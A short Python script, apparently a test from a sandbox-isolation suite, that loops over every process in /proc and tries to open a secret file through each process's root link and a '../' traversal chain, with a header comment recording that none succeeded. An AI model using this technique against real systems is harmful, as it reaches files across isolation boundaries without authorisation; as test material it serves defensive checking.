# none: reached
import os
from attack import attempt, done, facts

for pid in filter(str.isdigit, os.listdir("/proc")):
    for way in ("root", "cwd/../../../../../.."):
        attempt(f"{pid} {way}", open, f"/proc/{pid}/{way}{facts['secret_file']}")
done()
